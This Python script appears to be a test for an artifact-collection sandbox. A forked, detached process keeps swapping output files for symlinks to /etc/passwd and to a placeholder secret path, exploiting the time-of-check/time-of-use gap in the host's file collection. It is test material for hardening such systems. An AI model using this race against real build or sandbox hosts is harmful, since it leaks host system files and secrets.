"""Artifacts: a survivor swaps files for links to the host's files, as fast as it can, across the end.

Attacks the moment between looking at a file and reading it.
"""

import os
import time

SECRET = "@SECRET@"

if os.fork() == 0:
    os.setsid()
    os.chdir("out")
    number = 0
    while True:
        open("s", "w").close()
        os.rename("s", "model.pkl")
        os.symlink("/etc/passwd", "t")
        os.rename("t", "model.pkl")
        os.symlink(SECRET, "t")
        os.rename("t", "other.pkl")
        open("s", "w").close()
        os.rename("s", "other.pkl")
        number += 1
        if number == 1:
            open("/tmp/going", "w").close()
while not os.path.exists("/tmp/going"):
    time.sleep(0.001)
with open("out/good.txt", "w") as file:
    file.write("good")
os._exit(0)
